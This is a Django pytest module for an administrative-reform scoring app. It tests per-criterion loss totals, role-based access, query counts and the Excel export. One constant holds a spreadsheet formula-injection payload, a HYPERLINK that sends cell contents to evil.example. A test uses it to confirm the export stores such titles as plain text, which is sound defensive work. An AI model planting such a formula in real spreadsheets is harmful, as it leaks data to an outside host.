"""The province's criteria across units: how many units lost points on each criterion,
which, how many points in all; the page and its workbook, for those who oversee the
cycle only; checked against figures computed by hand."""

from __future__ import annotations

import io
from decimal import Decimal

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from openpyxl import load_workbook

from parindex.assessments.models import AssessmentItem, Cycle, CycleGroup
from parindex.conftest import DEMO_FRAMEWORKS, Cast
from parindex.frameworks.services import framework_copy_to_year, framework_freeze, framework_import
from parindex.frameworks.yamlio import tree_from_yaml
from parindex.org.models import Unit
from parindex.results.criteria import Member, by_criterion, cycle_criteria
from parindex.results.losses import CriterionDetail, CriterionLoss, criterion_losses
from parindex.results.tests.factories import cycle_for_units

pytestmark = pytest.mark.django_db

YES, NO = {"yes": True}, {"yes": False}
LEAF = "5.1.2"  # yes/no, 0,5 points, may be not applicable (districts' framework)
HALF = Decimal("0.50")
# The page and its workbook, the same for 2 units as for 11: the session, the cycle, the
# engine's inputs one table at a time, the units' names and groups once.
QUERIES = 18
DETAILS = "Đơn vị theo tiêu chí"  # the sheet of every unit's loss
HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")'


def _loss(unit: str, code: str, title: str, lost: str) -> CriterionLoss:
    return CriterionLoss(
        unit=unit,
        code=code,
        title=title,
        field=code.split(".")[0],
        max_points=Decimal(1),
        points=Decimal(1) - Decimal(lost),
        lost=Decimal(lost),
        comment="per unit, never shown here",
    )


def test_the_same_code_in_two_groups_is_two_criteria() -> None:
    members = {
        "a": Member("Sở A", "so", "Sở, ban, ngành", 1),
        "b": Member("Sở B", "so", "Sở, ban, ngành", 1),
        "c": Member("Sở C", "so", "Sở, ban, ngành", 1),
        "x": Member("Huyện X", "huyen", "UBND cấp huyện", 2),
        "y": Member("Huyện Y", "huyen", "UBND cấp huyện", 2),
    }
    detail = CriterionDetail(
        losses={
            "a": [_loss("a", "1.1", "Kế hoạch", "0.25"), _loss("a", "2.1", "Văn bản", "1.00")],
            "b": [_loss("b", "1.1", "Kế hoạch", "0.75")],
            "c": [],
            "x": [_loss("x", "1.1", "Kế hoạch", "0.50")],
            "y": [_loss("y", "1.1", "Kế hoạch", "0.50"), _loss("y", "3.2", "Tiếp nhận", "2")],
        },
        # Same code and title in both frameworks: one set of units across the groups.
        applies={
            ("1.1", "Kế hoạch"): {"a", "b", "x", "y"},  # lowered for c
            ("2.1", "Văn bản"): {"a", "b", "c"},
            ("2.2", "Báo cáo"): {"a", "b", "c"},  # nobody lost points
            ("3.2", "Tiếp nhận"): {"x", "y"},
        },
        digest="",
    )
    departments, districts = by_criterion(detail, members)
    assert (departments.name, departments.units, departments.spared) == ("Sở, ban, ngành", 3, 1)
    first, second = departments.criteria
    # 1.1: 0,25 + 0,75 = 1,00 over two of the two units it applies to; ties by code.
    assert (first.code, first.applies, first.losing, first.lost) == ("1.1", 2, 2, Decimal(1))
    assert [(u.name, u.lost) for u in first.units] == [
        ("Sở B", Decimal("0.75")),
        ("Sở A", Decimal("0.25")),
    ]
    assert first.share_pct == Decimal(100)
    assert (second.code, second.applies, second.losing, second.lost) == ("2.1", 3, 1, Decimal(1))
    assert second.share_pct.quantize(Decimal("0.01")) == Decimal("33.33")
    assert departments.lost == Decimal(2)
    assert (districts.units, districts.spared) == (2, 0)
    assert [(c.code, c.applies, c.losing, c.lost) for c in districts.criteria] == [
        ("3.2", 2, 1, Decimal(2)),
        ("1.1", 2, 2, Decimal(1)),
    ]


@pytest.fixture
def leaf_set(cycle_2024: Cycle) -> list[Unit]:
    """On 5.1.2 (0,5 points) of the 11 districts: the first three said no, the fourth's
    claim that it does not apply was accepted, the others said yes. The districts in
    their order."""
    units = list(Unit.objects.filter(assessments__cycle=cycle_2024).order_by("position"))
    framework = CycleGroup.objects.get(cycle=cycle_2024).framework
    criterion = framework.criteria.get(code=LEAF)
    for n, unit in enumerate(units):
        answer = NO if n < 3 else YES
        AssessmentItem.objects.update_or_create(
            assessment=unit.assessments.get(cycle=cycle_2024),
            criterion=criterion,
            defaults={
                "self_inputs": answer,
                "appraised_inputs": answer,
                "not_applicable_claimed": n == 3,
                "not_applicable_accepted": True,
                "appraisal_note": "MARKER-COMMENT" if n == 0 else "",
            },
        )
    return units


def test_a_criterion_counts_its_units_and_their_points(leaf_set: list[Unit]) -> None:
    (districts,) = cycle_criteria(Cycle.objects.get(year=2024))
    assert districts.units == 11
    (row,) = [c for c in districts.criteria if c.code == LEAF]
    assert (row.applies, row.losing, row.lost) == (10, 3, 3 * HALF)
    assert row.share_pct == Decimal(30)
    assert sorted(u.name for u in row.units) == sorted(u.name for u in leaf_set[:3])
    assert {u.lost for u in row.units} == {HALF}
    losses = [c.lost for c in districts.criteria]
    assert losses == sorted(losses, reverse=True)


def test_the_totals_are_the_sum_of_the_units_losses(cast: Cast, cycle_2024: Cycle) -> None:
    detail = criterion_losses(cycle_2024)
    (districts,) = cycle_criteria(cycle_2024)
    by_unit = [loss for losses in detail.losses.values() for loss in losses]
    assert districts.lost == sum(loss.lost for loss in by_unit)
    assert sum(c.losing for c in districts.criteria) == len(by_unit)
    for criterion in districts.criteria:
        assert criterion.lost == sum(u.lost for u in criterion.units)
        assert criterion.lost == sum(loss.lost for loss in by_unit if loss.code == criterion.code)
        assert criterion.losing <= criterion.applies
    applicable = {code for code, _title in detail.applies}
    assert districts.spared == len(applicable) - len(districts.criteria)


def test_the_page_shows_the_figures_and_links_the_units(cast: Cast, leaf_set: list[Unit]) -> None:
    response = cast.client(cast.viewer).get(reverse("results:criteria", args=[2024]))
    assert response.status_code == 200
    page = response.content.decode()
    assert "UBND cấp huyện" in page
    assert reverse("results:unit", args=[2024, leaf_set[0].code]) in page
    assert leaf_set[0].name in page
    assert "1,50" in page  # 3 × 0,5 written the Vietnamese way
    assert "30,00%" in page
    assert reverse("results:criteria_xlsx", args=[2024]) in page
    assert "MARKER-COMMENT" not in page  # the appraiser's comments are each unit's
    # The viewer does not run the cycle: no link to pages that would refuse them.
    assert reverse("results:fairness", args=[2024]) not in page
    admin_page = cast.client(cast.admin).get(reverse("results:criteria", args=[2024]))
    assert reverse("results:fairness", args=[2024]) in admin_page.content.decode()


def test_the_fairness_and_cycle_pages_lead_to_it(cast: Cast, cycle_2024: Cycle) -> None:
    target = reverse("results:criteria", args=[2024])
    for name in ("results:fairness", "assessments:manage", "results:manage"):
        response = cast.client(cast.admin).get(reverse(name, args=[2024]))
        assert response.status_code == 200
        if name != "results:manage":  # that one links it once a draft is computed
            assert target in response.content.decode(), name


def test_each_group_has_its_table_and_its_sheet(cast: Cast, leaf_set: list[Unit]) -> None:
    framework = framework_import(
        tree=tree_from_yaml((DEMO_FRAMEWORKS / "so-nganh-2023.yaml").read_bytes()), by=None
    )
    framework_freeze(framework=framework)
    copy = framework_freeze(
        framework=framework_copy_to_year(framework=framework, year=2024, by=None)
    )
    cycle = cycle_for_units(year=2024, framework=copy, units=[cast.unit_a, cast.unit_b])
    departments, districts = cycle_criteria(cycle)
    assert (departments.name, departments.units) == (cast.departments.name, 2)
    assert (districts.name, districts.units) == (cast.districts.name, 11)
    # The departments' 5.1.2 is their own criterion, never counted with the districts'.
    assert {u.code for c in departments.criteria for u in c.units} <= {
        cast.unit_a.code,
        cast.unit_b.code,
    }
    assert all(c.applies <= 2 for c in departments.criteria)
    (row,) = [c for c in districts.criteria if c.code == LEAF]
    assert (row.applies, row.losing) == (10, 3)
    client = cast.client(cast.chair)
    page = client.get(reverse("results:criteria", args=[2024])).content.decode()
    assert cast.departments.name in page and cast.districts.name in page
    one = client.get(reverse("results:criteria", args=[2024]), {"group": cast.districts.code})
    assert f'id="group-{cast.districts.code}"' in one.content.decode()
    assert f'id="group-{cast.departments.code}"' not in one.content.decode()
    unknown = client.get(reverse("results:criteria", args=[2024]), {"group": "nowhere"})
    assert f'id="group-{cast.departments.code}"' in unknown.content.decode()
    response = client.get(reverse("results:criteria_xlsx", args=[2024]))
    book = load_workbook(io.BytesIO(response.content))
    assert book.sheetnames == [cast.departments.name, cast.districts.name, DETAILS]
    details = list(book[DETAILS].iter_rows(values_only=True))[1:]
    assert {r[0] for r in details} == {cast.departments.name, cast.districts.name}


@pytest.mark.parametrize("url", ["results:criteria", "results:criteria_xlsx"])
def test_only_those_who_oversee_the_cycle_read_it(cast: Cast, cycle_2024: Cycle, url: str) -> None:
    address = reverse(url, args=[2024])
    for user in (cast.admin, cast.chair, cast.viewer):
        assert cast.client(user).get(address).status_code == 200, user.username
    for user in (cast.scorer_a, cast.head_a, cast.appraiser):
        assert cast.client(user).get(address).status_code == 403, user.username
    assert cast.client(None).get(address).status_code == 302  # to the log-in
    assert cast.client(cast.admin).post(address).status_code == 405
    assert cast.client(cast.admin).get(reverse(url, args=[2031])).status_code == 404


def test_the_queries_do_not_grow_with_the_units(cast: Cast, cycle_2024: Cycle) -> None:
    framework = CycleGroup.objects.get(cycle=cycle_2024).framework
    two = list(Unit.objects.filter(group=framework.group).order_by("position")[:2])
    cycle_for_units(year=2025, framework=framework, units=two, seed=2025)
    client = cast.client(cast.chair)
    counts = {}
    for year in (2024, 2025):
        for url in ("results:criteria", "results:criteria_xlsx"):
            client.get(reverse(url, args=[year]))  # the session and caches warmed
            with CaptureQueriesContext(connection) as queries:
                assert client.get(reverse(url, args=[year])).status_code == 200
            counts[(year, url)] = len(queries)
    assert counts[(2024, "results:criteria")] == counts[(2025, "results:criteria")]
    assert counts[(2024, "results:criteria_xlsx")] == counts[(2025, "results:criteria_xlsx")]
    print(counts)
    assert counts[(2024, "results:criteria")] <= 20


def test_the_workbook_holds_the_pages_figures(cast: Cast, leaf_set: list[Unit]) -> None:
    response = cast.client(cast.admin).get(reverse("results:criteria_xlsx", args=[2024]))
    assert (
        response["Content-Disposition"] == 'attachment; filename="chi-so-cchc-2024-tieu-chi.xlsx"'
    )
    book = load_workbook(io.BytesIO(response.content))
    (districts,) = cycle_criteria(Cycle.objects.get(year=2024))
    assert book.sheetnames == ["UBND cấp huyện", DETAILS]
    rows = list(book["UBND cấp huyện"].iter_rows(values_only=True))
    assert len(rows) == 1 + len(districts.criteria)
    (row,) = [r for r in rows[1:] if r[1] == LEAF]
    assert row[4:] == (10, 3, 0.3, 1.5)
    assert [r[1] for r in rows[1:]] == [c.code for c in districts.criteria]
    assert sum(Decimal(str(r[7])) for r in rows[1:]) == districts.lost
    details = list(book[DETAILS].iter_rows(values_only=True))
    assert len(details) == 1 + sum(c.losing for c in districts.criteria)
    mine = {(r[3], r[4]) for r in details[1:] if r[1] == LEAF}
    assert mine == {(u.name, 0.5) for u in leaf_set[:3]}
    assert all(r[0] == "UBND cấp huyện" for r in details[1:])


def test_a_title_that_looks_like_a_formula_stays_text(cast: Cast, leaf_set: list[Unit]) -> None:
    framework = CycleGroup.objects.get(cycle=Cycle.objects.get(year=2024)).framework
    framework.criteria.filter(code=LEAF).update(title=HOSTILE)
    response = cast.client(cast.admin).get(reverse("results:criteria_xlsx", args=[2024]))
    book = load_workbook(io.BytesIO(response.content))
    found = [
        cell
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.value == HOSTILE
    ]
    assert len(found) == 1 + 3  # its row, and each of the three units' rows
    assert all(cell.data_type == "s" and cell.quotePrefix for cell in found)
